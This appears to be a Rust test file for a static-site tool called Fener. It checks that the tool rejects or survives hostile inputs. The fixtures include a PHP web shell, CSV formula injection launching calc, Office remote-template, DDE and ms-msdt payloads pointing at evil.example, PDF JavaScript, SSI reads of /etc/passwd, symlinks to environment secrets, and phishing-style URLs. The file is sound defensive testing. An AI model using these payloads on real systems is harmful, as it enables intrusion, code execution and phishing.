//! Inputs with which a stranger once stopped, slowed or misled Fener, or got something published: each with others of
//! its kind. `SECURITY.md` names the boundary that they test.
#![allow(clippy::disallowed_methods, reason = "tests write hostile files")]

mod support;

use std::fs::File;
use std::os::unix::fs::FileExt;
use std::path::Path;

use support::{Folder, Sample};

/// A drawing around some SVG.
fn drawing(inside: &str) -> String {
    format!("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 4\">{inside}</svg>")
}

/// A campaign whose first guide shows the drawing `x.svg`.
fn with_drawing(inside: &str) -> Sample {
    Sample::new()
        .text("content/guides/first/sq.md", "I pari", "![Një vizatim](x.svg)\n")
        .file("content/guides/first/x.svg", &drawing(inside))
}

/// Runs `fener check` with a limit of time and memory, and expects one of these exit codes and no crash.
#[track_caller]
fn check(folder: &Folder, codes: &[i32], expected: &str) {
    let line = "ulimit -v 3000000; exec timeout 60 \"$fener\" check --date 2026-11-22";
    let outcome = folder.sh(line);
    let code = outcome.code.expect("no signal ends it");
    assert!(codes.contains(&code), "exit {code}\n{}", outcome.stderr);
    assert!(!outcome.stderr.contains("panicked"), "{}", outcome.stderr);
    let shown = outcome.stderr + &outcome.stdout;
    assert!(shown.contains(expected), "{expected:?} is not in\n{shown}");
}

#[test]
fn letters_of_several_bytes_in_a_drawing() {
    for inside in [
        "<set attributeName=\"a€\"/>",
        "<set attributeName=\"€\"/>",
        "<g €=\"1\" a€=\"2\"/>",
        "<animate attributeName=\"ë\" values=\"ë;€\"/>",
        "<g on€=\"1\"/>",
        "<g id=\"😀\"><use href=\"#😀😀\"/></g>",
    ] {
        check(&with_drawing(inside).write(), &[0, 1], "");
    }
}

#[test]
fn drawings_that_never_end() {
    let nested = |open: &str, n: usize| format!("{}{}", open.repeat(n), "</g>".repeat(n));
    let copies: String = (1..40)
        .map(|n| format!("<g id=\"a{n}\">{}</g>", format!("<use href=\"#a{}\"/>", n - 1).repeat(2)))
        .collect();
    let attributes: String = (0..100_000).map(|n| format!(" a{n}=\"\"")).collect();
    for inside in [
        nested("<g>a", 80_000),
        nested("<g><style>a{}</style>", 20_000),
        copies,
        format!("<path{attributes}/>"),
        format!("<text>{}</text>", "<tspan>a</tspan>".repeat(200_000)),
        "<g id=\"a\"><use href=\"#b\"/></g><g id=\"b\"><use href=\"#a\"/></g>".to_owned(),
        // In each of 98 groups there are half a million copies: 3 GB if all were noted.
        format!(
            "{}{}{}",
            (0..98).map(|n| format!("<g id=\"g{n}\">")).collect::<String>(),
            "<use href=\"#a\"/>".repeat(500_000),
            "</g>".repeat(98)
        ),
    ] {
        let many = inside.contains("tspan");
        let expected = if many { "" } else { "unsafe drawing" };
        check(&with_drawing(&inside).write(), &[i32::from(!many)], expected);
    }
}

#[test]
fn messages_that_are_nested_or_chained_without_end() {
    let chain: String = (1..5_000).map(|n| format!("a{n} = {{ a{} }}\n", n - 1)).collect();
    let attributes: String = (0..20_000).map(|n| format!("    .a{n} = x\n")).collect();
    let unknown: String = (0..10_000).map(|n| format!("b{n} = {{ nothing-{n} }}\n")).collect();
    for (text, expected) in [
        (format!("menu = {}", "{".repeat(100_000)), "nested too deeply"),
        (format!("menu = {}", "{ NUMBER(".repeat(50_000)), "nested too deeply"),
        (format!("menu = {}", "{ $n -> *[a] \"} ".repeat(30_000)), "nested too deeply"),
        (format!("a0 = x\n{chain}"), "refers to more than 100 other phrases"),
        (format!("menu = x\n{attributes}"), "more than 100 attributes"),
        (unknown, "unknown phrase"),
        ("menu = x\n".repeat(100_000), "the limit is 500000"),
    ] {
        check(&Sample::new().file("locales/en.ftl", &text).write(), &[1], expected);
    }
}

#[test]
fn stylesheets_that_are_nested_without_end() {
    for css in [
        "a{".repeat(30_000),
        format!("a{}b{}{{}}", ":not(".repeat(30_000), ")".repeat(30_000)),
        format!("a{{width:{}1px{}}}", "calc(".repeat(20_000), ")".repeat(20_000)),
        format!("a{{--x:{}}}", "[".repeat(50_000)),
        format!("@media {}{{}}", "(".repeat(50_000)),
        format!("a{{b:{}}}", "f(".repeat(17)),
    ] {
        let sample = Sample::new().file("themes/fener/css/fener.css", &css);
        check(&sample.write(), &[1], "error[template]");
    }
}

#[test]
fn stylesheets_of_very_many_rules() {
    let rules =
        |count: usize| -> String { (0..count).map(|n| format!(".a{n}{{color:red}}")).collect() };
    let with = |text: &str| Sample::new().file("themes/fener/css/fener.css", text).write();
    check(&with(&rules(15_000)), &[0, 1], "");
    for text in [
        rules(30_000),
        rules(200_000),
        (0..40_000).map(|n| format!(".a{n},")).collect::<String>() + "b{color:red}",
        "a{color:red}".repeat(40_000),
        format!("a::after{{content:\"{}\"}}", "x".repeat(400_000)),
    ] {
        check(&with(&text), &[1], "file too large");
    }
}

#[test]
fn a_stylesheet_or_script_cannot_leave_its_element() {
    for css in [
        "a::after{content:\"</style><meta http-equiv=refresh content=0;url=//evil.example>\"}",
        "a::after{content:'</STYLE\n'}",
        "a::after{content:\"\\3c/style>\"}",
        "a{background:url(\"#</style>\")}",
        "[title=\"</sTyLe\"]{color:red}",
    ] {
        let sample = Sample::new().file("themes/fener/css/fener.css", css);
        check(&sample.write(), &[1], "error[template]");
    }
    for script in ["let a = \"</script>\"", "let a = '</SCRIPT '", "let a = \"<!--<script>\""] {
        let sample = Sample::new().file("themes/fener/js/fener.js", script);
        check(&sample.write(), &[1], "`</script` or `<!--`");
    }
}

#[test]
fn templates_that_never_end() {
    let doubling = "{% set a = a ~ a ~ a ~ a ~ a ~ a ~ a ~ a %}".repeat(12);
    for template in [
        "{% for i in range(end=100000) %}{% for j in range(end=100000) %}{% endfor %}{% endfor %}",
        &format!("{{% set a=\"xxxxxxxxxx\" %}}{doubling}{{{{a}}}}"),
        "{% set a = \"x\" %}{% for i in range(end=99) %}{% set_global a = a ~ a %}{% endfor %}",
        "{% set a = [1] %}{% for i in range(end=99) %}{% set_global a = [a, a] %}{% endfor %}{{ a }}",
        "{% component a() %}{{ <a /> }}{{ <a /> }}{{ <a /> }}{% endcomponent a %}{{ <a /> }}",
        "{{ [[[1 for a in range(end=9999)] for b in range(end=9999)] for c in range(end=9999)] }}",
        "{% set a %}{% for i in range(end=99999) %}xxxxxxxxxx{% endfor %}{% endset %}",
        "{{ \"a\\n\" | indent(width=2000000000) }}",
        &"{{ 1 }}".repeat(50_000),
    ] {
        let sample = Sample::new().file("themes/fener/templates/guide.html", template);
        check(&sample.write(), &[1], "error[template]");
    }
}

#[test]
fn files_that_are_larger_than_memory() {
    let folder = Sample::new()
        .text("content/guides/first/sq.md", "I pari", "![Foto](x.png) [Video](x.mp4)\n")
        .write();
    // Sparse files: 1.5 GB that take no room on the disk.
    let large = |path: &str, start: &[u8]| {
        folder.put(path, start);
        let file = File::options().write(true).open(folder.path().join(path)).expect("a file");
        file.write_all_at(&[0], 1_500_000_000).expect("a sparse file");
    };
    large("content/guides/first/x.png", b"\x89PNG\r\n\x1a\n");
    let line = "ulimit -v 1000000; exec \"$fener\" check --date 2026-11-22";
    let outcome = folder.sh(line);
    assert!(outcome.stderr.contains("error[huge-picture]"), "{outcome:?}");
    large("posters.lock", b"posters:\n");
    large("content/sq.md", b"---\n");
    large("locales/sq.ftl", b"a = b\n");
    large("themes/fener/css/fener.css", b"a{}");
    large("themes/fener/static/icon.svg", b"<svg");
    let outcome = folder.sh(line);
    assert_eq!(outcome.stderr.matches("error[too-large]").count(), 5, "{outcome:?}");
    large("fener.yaml", b"title: x\n");
    let outcome = folder.sh(line);
    assert!(outcome.stderr.contains("error[too-large]"), "{outcome:?}");
}

#[test]
fn many_findings_in_one_line_or_file() {
    for body in [
        format!("[a]: x\n\n{}", "[a] ".repeat(20_000)),
        format!("{}\n", "[a](x.md) ".repeat(20_000)),
        "<b>\n\n".repeat(20_000),
        "[a](x.md)\n\n".repeat(20_000),
        format!("{}\n", "`a` {{b}} ".repeat(20_000)),
        format!("{}\n", "[a][ ".repeat(20_000)),
    ] {
        check(
            &Sample::new().text("content/guides/first/sq.md", "I pari", &body).write(),
            &[0, 1],
            "",
        );
    }
}

#[test]
fn links_devices_and_pipes_in_the_place_of_files() {
    let outside = Folder::new();
    outside.put("secret", b"KEY: secret\nTOKEN: [abc\n");
    let secret = outside.path().join("secret");
    for path in [
        "posters.lock",
        "fener.yaml",
        "content/x.pdf",
        "content/guides/first/facts.yaml",
        "content/guides/first/sq.md",
        "locales/sq.ftl",
        "themes/fener/css/fener.css",
        "static/x.txt",
    ] {
        for target in [Path::new("/dev/zero"), &secret, Path::new("/proc/self/environ")] {
            let folder = Sample::new().write();
            let _ = std::fs::remove_file(folder.path().join(path));
            folder.link(path, target);
            let outcome = folder.sh("ulimit -v 1000000; exec timeout 60 \"$fener\" check");
            assert_eq!(outcome.code, Some(1), "{path}: {outcome:?}");
            assert!(outcome.stderr.contains("outside of the campaign"), "{path}: {outcome:?}");
            assert!(!outcome.stderr.contains("TOKEN"), "{path}: {outcome:?}");
        }
        let folder = Sample::new().write();
        let _ = std::fs::remove_file(folder.path().join(path));
        folder.sh(&format!("mkdir -p \"$(dirname {path})\" && mkfifo {path}"));
        check(&folder, &[1], "not a file with text or data");
    }
}

#[test]
fn folders_that_lead_elsewhere() {
    let outside = Folder::new();
    for path in
        ["sq.md", "facts.yaml", "sq.ftl", "fener.css", "x.txt", "css/fener.css", "guide.html"]
    {
        outside.put(path, b"TOKEN: [secret\n");
    }
    let before = outside.files("");
    for path in [
        "content",
        "content/guides",
        "content/guides/other",
        "locales",
        "themes",
        "themes/fener",
        "themes/fener/css",
        "static",
        "static/a",
        ".fener-schema",
        "public",
        "print",
    ] {
        let folder = Sample::new().write();
        let _ = std::fs::remove_dir_all(folder.path().join(path));
        folder.link(path, outside.path());
        for command in [&["check"][..], &["build"], &["schema"], &["new", "guide", "zz"]] {
            let outcome = folder.fener(command);
            assert!(matches!(outcome.code, Some(0..=2)), "{path}: {outcome:?}");
            assert!(!outcome.stderr.contains("panicked"), "{path}: {outcome:?}");
            assert!(!outcome.stderr.contains("secret"), "{path}: {outcome:?}");
            assert!(!outcome.stdout.contains("secret"), "{path}: {outcome:?}");
        }
        assert_eq!(outside.files(""), before, "{path}");
        if path != "public" {
            let site = folder.files("public");
            let is_leaked = |bytes: &Vec<u8>| bytes.windows(6).any(|part| part == b"secret");
            assert!(!site.values().any(is_leaked), "{path}");
        }
    }
}

#[test]
fn a_cache_that_leads_elsewhere_is_not_used() {
    let outside = Folder::new();
    outside.put("pictures/0123456789abcdef-holiday.jpg", b"photo");
    outside.put(&format!("{:064}", 7), b"years");
    let before = outside.files("");
    let folder = with_drawing("<path d=\"M0 0h1\"/>").write();
    folder.link(".fener-cache", outside.path());
    for _ in 0..2 {
        assert_eq!(folder.fener(&["build"]).code, Some(0));
        assert_eq!(folder.fener(&["check"]).code, Some(0));
    }
    assert_eq!(outside.files(""), before);
    folder.remove(".fener-cache");
    for name in ["proofs", "sites", "a/b"] {
        folder.link(&format!(".fener-cache/{name}"), outside.path());
    }
    folder.link(&format!(".fener-cache/{:064}", 1), Path::new("/dev/zero"));
    folder.sh(&format!("mkfifo .fener-cache/{:064}", 2));
    assert_eq!(folder.fener(&["build"]).code, Some(0));
    assert_eq!(outside.files(""), before);
}

#[test]
fn any_number_of_threads_may_be_asked_for() {
    let folder = Sample::new().write();
    for line in ["RAYON_NUM_THREADS=1", "RAYON_NUM_THREADS=300", "RAYON_NUM_THREADS=none"] {
        let outcome = folder.sh(&format!("{line} \"$fener\" check --date 2026-11-22"));
        assert_eq!(outcome.code, Some(0), "{line}: {outcome:?}");
    }
}

#[test]
fn a_document_that_changes_during_a_build_is_never_published_under_its_old_name() {
    let folder =
        Sample::new().text("content/guides/first/sq.md", "I pari", "[Fletë](x.pdf)\n").write();
    let old = [b"%PDF-1.7\n".to_vec(), vec![b'A'; 3_000_000]].concat();
    let new = [b"%PDF-1.7\n".to_vec(), vec![b'B'; 3_000_000]].concat();
    // The same length and time: only the content differs.
    let swap = "mv content/guides/first/x.pdf a; mv b content/guides/first/x.pdf; mv a b";
    folder.put("content/guides/first/x.pdf", &old);
    folder.put("b", &new);
    folder.sh("touch -d 2026-01-01 b content/guides/first/x.pdf");
    let outcome = folder.sh(&format!(
        "\"$fener\" build --date 2026-11-22 & while kill -0 $! 2>/dev/null; do {swap}; done; wait $!"
    ));
    let files = folder.files("public/files");
    assert!(matches!(outcome.code, Some(0 | 1)), "{outcome:?}");
    for (path, bytes) in &files {
        // Built again in peace, this content has this name.
        folder.put("content/guides/first/x.pdf", bytes);
        assert_eq!(folder.fener(&["build"]).code, Some(0));
        assert_eq!(folder.files("public/files").get(path), Some(bytes), "{path}");
    }
}

/// A helpline with these channels after its number.
fn helpline(channels: &str) -> String {
    format!(
        "status: active\nchannels:\n  - {{type: voice, number: \"116006\"}}\n{channels}\
         assured: {{on: 2026-11-01, by: test_call, source: x}}\n"
    )
}

#[test]
fn attached_pages_scripts_and_programs() {
    for (name, content) in [
        ("x.html", &b"<script>alert(document.domain)</script>"[..]),
        ("x.php", b"<?php system($_GET[\"c\"]);"),
        ("x.xhtml", b"<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"/>"),
        ("x.txt", b"<html><body onload=alert(1)>"),
        ("x.js", b"alert(1)"),
        ("x.shtml", b"<!--#exec cmd=\"ls\" -->"),
        ("x.hta", b"<hta:application>"),
        ("x.exe", b"MZ\x90\0"),
        ("x.zip", b"PK\x03\x04\0\0"),
        ("x.txt", b"\x1f\x8b\x08\0"),
        ("x.mp3", b"<html><script>alert(1)</script>"),
        ("x.pdf", b"\n\n<!DOCTYPE html>%PDF-1.7"),
        ("x.pdf", b"PK\x03\x04%PDF-1.7"),
        ("x.ics", b"MZ\x90BEGIN:VCALENDAR"),
        ("x.vtt", b"WEBVTT\n\n<!--#include virtual=\"/etc/passwd\" -->"),
        ("x.csv", b"name,number\n=cmd|' /C calc'!A0,1\n"),
        ("x.rtf", b"{\\rtf1{\\*\\template http://evil.example/a.dotm}}"),
        ("x.txt", b"a\0<script>"),
        ("x.pdf", b"%PDF-1.7\n<</S/Rendition/JS(app.alert)>>"),
        ("x.pdf", b"%PDF-1.7\n<</S /JavaScript /JS (app.alert(1))>>"),
        ("x.xml", b"<a/>"),
        ("x", b"#!/bin/sh\n"),
        ("x.url", b"[InternetShortcut]\nURL=file:///a\n"),
        ("x.desktop", b"[Desktop Entry]\nExec=a\n"),
        ("x.scf", b"[Shell]\nIconFile=\\\\server\\a\n"),
        ("x.library-ms", b"<?xml version=\"1.0\"?><libraryDescription/>"),
        ("x.lnk", b"L\0\0\0\x01\x14\x02\0"),
        ("x.doc", b"MIME-Version: 1.0\nContent-Type: multipart/related\n"),
        ("x.mht", b"MIME-Version: 1.0\n"),
        ("x.xsl", b"<xsl:stylesheet/>"),
        ("x.txt", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0"),
        ("x.txt", b"\0<\0h\0t\0m\0l\0>"),
        ("x.html", b"+ADw-script+AD4-"),
        ("x.pdf", b"%PDF"),
        ("x.pdf", b"Rar!\x1a\x07\x01\0"),
        ("x.docx", b"7z\xbc\xaf\x27\x1c"),
        ("x.pdf", b"%PDF-1.7\n%%EOF\nPK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
        ("x.pdf", b"%PDF-1.7\n<</S/URI/URI<6a6176617363726970743a61>>>"),
        ("x.pdf", b"%PDF-1.7\n<</S/URI/URI(search-ms:query=a)>>"),
        ("x.ics", b"BEGIN:VCALENDAR\nBEGIN:VALARM\nACTION:PROCEDURE\nEND:VALARM\n"),
        ("x.ics", b"BEGIN:VCALENDAR\nATTACH:file://server/a\n"),
        ("x.vcf", b"BEGIN:VCARD\nURL:java\n script:alert(1)\nEND:VCARD\n"),
        ("x.vcf", b"BEGIN:VCARD\nPHOTO;VALUE=URI:https://evil.example/a.png\nEND:VCARD\n"),
        ("x.ics", b"BEGIN:VCALENDAR\nORGANIZER;SENT-BY=\"javascript:1\":mailto:a@b.example\n"),
        (
            "x.ics",
            b"BEGIN:VCALENDAR\nATTACH:data:application/x-msdownload;base64,TVqQAAMAAAAEAAAA\n",
        ),
        ("x.ics", b"BEGIN:VCALENDAR\nX-ALT-DESC;FMTTYPE=text/html:<p onmouseover=\"a()\">a</p>\n"),
        ("x.vcf", b"BEGIN:VCARD\nURL;ENCODING=b:amF2YXNjcmlwdDphbGVydCgxKQ==\nEND:VCARD\n"),
        ("x.vcf", b"BEGIN:VCARD\nSOUND;ENCODING=b;TYPE=WAVE:TVqQAAMAAAAEAAAA\nEND:VCARD\n"),
        ("x.csv", b"a\n-2+3+cmd|' /C calc'!A0\n"),
        ("x.csv", b"ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n"),
        ("x.rtf", b"{\\rtf1{\\field{\\*\\fldinst {D}{D}EAUTO c}}}"),
        ("x.mp3", b"ID3\x04\0\0\0\0\0\0Rar!\x1a\x07\x01\0"),
        ("x.wav", b"RIFF\0\0\0\0WAVE7z\xbc\xaf\x27\x1c"),
        ("x.mov", b"\0\0\0\x14ftypqt  \0\0\0\0moovrmrardrf\0\0\0\0url https://evil.example/a.mov"),
    ] {
        is_refused(name, content);
    }
    for (name, stream, content) in [
        ("x.doc", "\u{1}Ole10Native", &b"a"[..]),
        ("x.doc", "_VBA_PROJECT", b"a"),
        ("x.doc", "ObjectPool/_1/Contents", b"a"),
        ("x.doc", "1Table", b"\x13DDEAUTO c:\\a \x14"),
        ("x.doc", "\u{1}Ole", b"\x01\0\0\x02\x01\0\0\0"),
        ("x.doc", "a", b"MZ\x90"),
        ("x.xls", "Workbook", b"\x85\0\x0e\0\x11\x22\0\0\0\x01\x06\0Macro1"),
        ("x.xls", "Workbook", b"\xae\x01\x0a\0\x01\0\x05\0\0a\x03b c"),
        ("x.xls", "Book", b"\x09\x08\x08\0\0\x05\x05\0aaaa\x2f\0\x04\0bbbb"),
        ("x.xls", "EncryptedPackage", b"a"),
        ("x.ppt", "Current User", b"\x14\0\0\0\xdf\xc4\xd1\xf3"),
        ("x.ppt", "PowerPoint Document", b"\x10\0\x11\x10\x08\0\0\0\x02\0\0\0x\x9c\x01\x02"),
        ("x.ppt", "PowerPoint Document", b"\0\0\xf3\x0f\x10\0\0\0aaaaaaaa\x02aaaaaaa"),
    ] {
        let own = match name {
            "x.doc" => "WordDocument",
            "x.xls" => "Workbook",
            _ => "PowerPoint Document",
        };
        let streams = [(own, &b"a"[..]), (stream, content)];
        let streams = if own == stream { &streams[1..] } else { &streams };
        is_refused(name, &support::with_streams(streams));
    }
    // An installer, and a mail, under the name of a document.
    for stream in ["\u{4840}\u{3f7f}\u{4164}", "__properties_version1.0"] {
        is_refused("x.doc", &support::with_stream(stream, b"a"));
    }
}

/// Links a file from a guide, and expects that it is not published.
#[track_caller]
fn is_refused(name: &str, content: &[u8]) {
    let path = format!("content/guides/first/{name}");
    let sample = Sample::new()
        .text("content/guides/first/sq.md", "I pari", &format!("[a]({name})\n"))
        .bytes(&path, content);
    sample.check().are_about("attachment", &path);
}

#[test]
fn parts_of_a_pdf_that_stand_behind_padding_or_are_searched_again_and_again() {
    let objects = |before: &str, behind: &str| {
        let names = "/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode";
        format!("%PDF-1.7\n1 0 obj{before}<<{names}>>{behind}stream\n2F4A61766153637269707420>\n")
    };
    let (spaces, comment) = (" ".repeat(60_000), format!("%{}\n", "x".repeat(60_000)));
    for content in [
        objects(&spaces, ""),
        objects("", &spaces),
        objects(&comment, ""),
        objects("", &comment),
        objects(" null ", ""),
        objects("<<>>junk", ""),
        format!("%PDF-1.7\n{}", "/URI<".repeat(300_000)),
        format!("%PDF-1.7\n{}", "/F(\\\n".repeat(300_000)),
        format!("%PDF-1.7\n{}", "1 0 obj<<%".repeat(300_000)),
    ] {
        let sample = Sample::new()
            .text("content/guides/first/sq.md", "I pari", "[a](x.pdf)\n")
            .file("content/guides/first/x.pdf", &content);
        check(&sample.write(), &[1], "x.pdf");
    }
}

#[test]
fn tables_and_texts_whose_letters_are_searched_again_and_again() {
    for (name, content) in [
        ("x.csv", format!("-1{}|", "(".repeat(200_000))),
        ("x.csv", format!("+1{}'", "( ".repeat(100_000))),
        ("x.ics", format!("BEGIN:VCALENDAR\nURL:{}", "\t".repeat(200_000))),
        ("x.rtf", format!("{{\\rtf1 {}", "\\sv{".repeat(15))),
    ] {
        let sample = Sample::new()
            .text("content/guides/first/sq.md", "I pari", &format!("[a]({name})\n"))
            .file(&format!("content/guides/first/{name}"), &content);
        check(&sample.write(), &[0, 1], "");
    }
}

#[test]
fn documents_whose_packed_parts_act() {
    let epub = ("mimetype", &b"application/epub+zip"[..]);
    let odt = ("mimetype", &b"application/vnd.oasis.opendocument.text"[..]);
    let types = ("[Content_Types].xml", &b"<Types/>"[..]);
    let relationship = |kind: &str, target: &str| {
        format!(
            "<Relationships><Relationship Id=\"a\" TargetMode=\"External\" Target=\"{target}\" \
             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\"/></Relationships>"
        )
    };
    let template = relationship("attachedTemplate", "https://evil.example/a.dotm");
    let frame = relationship("frame", "\\\\evil.example\\a");
    let link = relationship("hyperlink", "ms-msdt:/id PCWDiagnostic");
    let field = "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a</w:instrText></w:p>";
    for (name, files) in [
        ("x.epub", [epub, ("a.xhtml", b"<html><script>alert(1)</script></html>")]),
        ("x.epub", [epub, ("a.xhtml", b"<p onclick=\"alert(1)\">a</p>")]),
        ("x.epub", [epub, ("a.dat", b"<svg><a href=\"java&#10;script:a\"/></svg>")]),
        ("x.epub", [epub, ("a.xhtml", b"<img src=\"https://evil.example/a.png\"/>")]),
        ("x.epub", [epub, ("a.css", b"a{background:url(//evil.example/a)}")]),
        ("x.docx", [types, ("word/_rels/settings.xml.rels", template.as_bytes())]),
        ("x.docx", [types, ("word/_rels/document.xml.rels", frame.as_bytes())]),
        ("x.docx", [types, ("word/_rels/document.xml.rels", link.as_bytes())]),
        ("x.docx", [types, ("word/document.xml", field.as_bytes())]),
        ("x.xlsx", [types, ("xl/a.xml", b"<ddeLink ddeService=\"cmd\"/>")]),
        ("x.pptx", [types, ("ppt/a.xml", b"<a action=\"ppaction://program?a\"/>")]),
        ("x.odt", [odt, ("content.xml", b"<a><script:event-listener/></a>")]),
        ("x.odt", [odt, ("content.xml", b"<draw:image xlink:href=\"http://evil.example/\"/>")]),
        ("x.odt", [odt, ("settings.xml", b"<a><table:dde-link/></a>")]),
        ("x.docx", [types, ("word/document.xml", b"<w:document><w:altChunk/></w:document>")]),
        ("x.docx", [types, ("word/settings.xml", b"<w:settings><w:mailMerge/></w:settings>")]),
        (
            "x.xlsx",
            [types, ("xl/connections.xml", b"<connection odcFile=\"https://evil.example/\"/>")],
        ),
        ("x.xlsx", [types, ("xl/a.xml", b"<c><f>_xlfn.WEBSERVICE(A1)</f></c>")]),
        ("x.docx", [types, ("word/media/image1.svg", b"<svg onload=\"alert(1)\"/>")]),
        (
            "x.odt",
            [
                odt,
                ("Pictures/a.svg", b"<svg><style>@import url(https://evil.example/)</style></svg>"),
            ],
        ),
        (
            "x.pptx",
            [
                types,
                ("ppt/media/a.png", b"<svg><image href=\"https://evil.example/a.png\"/></svg>"),
            ],
        ),
        ("x.odp", [odt, ("Pictures/a.png", b"Rar!\x1a\x07\x01\0")]),
        (
            "x.xlsx",
            [types, ("xl/a.xml", b"<c><f>HYPERLINK(CHAR(109)&amp;\"s-msdt:/id\",\"x\")</f></c>")],
        ),
        (
            "x.xlsx",
            [
                types,
                (
                    "xl/a.xml",
                    b"<m><Override ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></m>",
                ),
            ],
        ),
        ("x.ods", [odt, ("content.xml", b"<a table:formula=\"of:=DDE(&quot;a&quot;)\"/>")]),
    ] {
        let path = format!("content/guides/first/{name}");
        let sample = Sample::new()
            .text("content/guides/first/sq.md", "I pari", &format!("[a]({name})\n"))
            .bytes(&path, &support::archive(&files, true));
        sample.check().are_about("attachment", &path);
    }
    let files = [epub, ("a.xhtml", b"<html><p>Fjal\xc3\xab</p></html>")];
    let sample = Sample::new()
        .text("content/guides/first/sq.md", "I pari", "[a](x.epub)\n")
        .bytes("content/guides/first/x.epub", &support::archive(&files, true));
    assert!(!sample.check().blocks());
}

#[test]
fn files_that_servers_run_or_obey_under_any_name() {
    let files: &[(&str, &[u8])] = &[
        ("x.phtml", b"a <?= `$_GET[0]` ?>"),
        ("x.pht", b"a <? system(1) ?>"),
        ("x.txt", b"a <?= `$_GET[0]` ?>"),
        ("x.js.en", b"alert(1)"),
        ("x.php.txt", b"a"),
        ("x.cfm", b"a <cfexecute name=\"id\">"),
        ("x.cjs", b"alert(1)"),
        ("x.py", b"import os"),
        ("x.pl.txt", b"#!/usr/bin/perl"),
        ("x.swf", b"FWS"),
        ("cgi-bin/x", b"a"),
        ("_routes.json", b"{}"),
        ("_redirects", b"/ https://evil.example/"),
        ("vercel.json", b"{}"),
        ("staticwebapp.config.json", b"{}"),
        ("netlify.toml", b""),
        (".htpasswd", b"a:b"),
        (".user.ini", b"auto_prepend_file=/a"),
        ("_config.yml", b"plugins: [a]"),
        ("x.php.html", b"a"),
    ];
    let harmless: &[(&str, &[u8])] = &[
        ("CNAME", b"example.org\n"),
        ("guide.pl.pdf", b"%PDF-1.7\n"),
        (".well-known/assetlinks.json", b"[]"),
        ("google1234.html", b"google-site-verification: google1234.html"),
    ];
    let with = |sample: Sample, (name, content): &(&str, &[u8])| {
        sample.bytes(&format!("static/{name}"), content)
    };
    let lines = files.iter().chain(harmless).fold(Sample::new(), with).check().lines();
    let is_noted = |name: &str| lines.contains(&format!("static/{name}: notice[own-code]"));
    for (name, _) in files {
        assert!(is_noted(name), "{name}: {lines}");
    }
    for (name, _) in &harmless[..3] {
        assert!(!is_noted(name), "{name}: {lines}");
    }
    let folder = Sample::new().write();
    assert_eq!(folder.fener(&["build"]).code, Some(0));
    for (name, content) in files {
        let path = format!("public/{name}");
        folder.put(&path, content);
        let outcome = folder.fener(&["build"]);
        assert_ne!(outcome.code, Some(0), "{name}");
        assert!(outcome.stderr.contains(name), "{name}: {}", outcome.stderr);
        folder.remove(&path);
    }
    for (name, content) in harmless {
        folder.put(&format!("public/{name}"), content);
    }
    assert_eq!(folder.fener(&["build"]).code, Some(0));
    for (name, _) in harmless {
        assert!(folder.path().join("public").join(name).exists(), "{name}");
    }
}

#[test]
fn an_archive_at_the_end_of_a_film_above_the_limit() {
    let sample = Sample::new().text("content/guides/first/sq.md", "I pari", "[a](x.mp4)\n");
    let folder = sample.write();
    let archive = support::archive(&[("a.class", b"a")], false);
    for inside in [&b""[..], &archive, b"Rar!\x1a\x07\x01\0"] {
        folder.put("content/guides/first/x.mp4", b"\0\0\0\x18ftypisom\0\0\0\0");
        let film = folder.path().join("content/guides/first/x.mp4");
        let file = File::options().write(true).open(&film).expect("a film");
        file.write_all_at(inside, 31_000_000).expect("its end");
        file.set_len(31_000_500).expect("its length");
        drop(file);
        let outcome = folder.fener(&["check"]);
        let shown = outcome.stderr + &outcome.stdout;
        assert_eq!(shown.contains("another file inside"), !inside.is_empty(), "{shown}");
    }
}

#[test]
fn a_template_of_a_server_is_an_attack_and_one_of_the_own_computer_is_none() {
    let document = |place: &str| {
        let relationship = format!(
            "<Relationships><Relationship Target=\"{place}\" TargetMode=\"External\" \
             Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/></Relationships>"
        );
        let files = [
            ("[Content_Types].xml", &b"<Types/>"[..]),
            ("word/_rels/settings.xml.rels", relationship.as_bytes()),
        ];
        let sample = Sample::new()
            .text("content/guides/first/sq.md", "I pari", "[a](x.docx)\n")
            .bytes("content/guides/first/x.docx", &support::archive(&files, true));
        sample.check()
    };
    for place in [
        "https://evil.example/a.dotm",
        "file://server/share/a.dotx",
        "\\\\server\\share\\a.dotx",
        "file:///\\\\server\\a.dotx",
        "//server/a.dotx",
    ] {
        let findings = document(place);
        findings.are_about("attachment", "content/guides/first/x.docx");
    }
    for place in [
        "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\ONG.dotx",
        "file:///c:/sabloane/ONG.dotm",
        "D:\\ONG.dot",
        "file:///Users/ana/Library/ONG.dotx",
        "ONG.dotx",
    ] {
        let findings = document(place);
        let lines = findings.lines();
        let found = "content/guides/first/x.docx: warning[attachment]";
        assert!(lines.contains(found) && !findings.blocks(), "{place}: {lines}");
    }
}

#[test]
fn addresses_that_hide_another_one() {
    for address in [
        "help@ngo.org?bcc=evil@x.y&body=hi",
        "help",
        "a@b.org,c@d.org",
        "help@ngo.org%0Abcc:evil@x.y",
        "help@ngо.org",
        "help@xn--80ak6aa92e.com",
        "help@ngo.org;c@d.org",
        "help@ngo.org#x",
        "help@@ngo.org",
        "help@ngo..org",
        "help@[127.0.0.1]",
    ] {
        let facts = helpline(&format!("  - {{type: email, address: \"{address}\"}}\n"));
        let sample = Sample::new().file("content/helplines/line/facts.yaml", &facts).text(
            "content/helplines/line/sq.md",
            "Linja",
            "",
        );
        sample.check().are_about("bad-value", "content/helplines/line/facts.yaml");
        let sample = Sample::new().text(
            "content/guides/first/sq.md",
            "I pari",
            &format!("[a](<mailto:{address}>)\n"),
        );
        sample.check().are_about("dead-link", "content/guides/first/sq.md");
    }
    for url in [
        "https://good.org@evil.org/",
        "https://good.org\\\\@evil.org/",
        "https://pаypal.com/",
        "javascript:alert(1)",
        "https://a b.org/",
        "vbscript:a",
        "data:text/html,a",
        "//good.org/",
        "https:\\\\\\\\good.org",
        "java\\tscript:a",
        "https://good.org\\t/",
        "https://аррӏе.com",
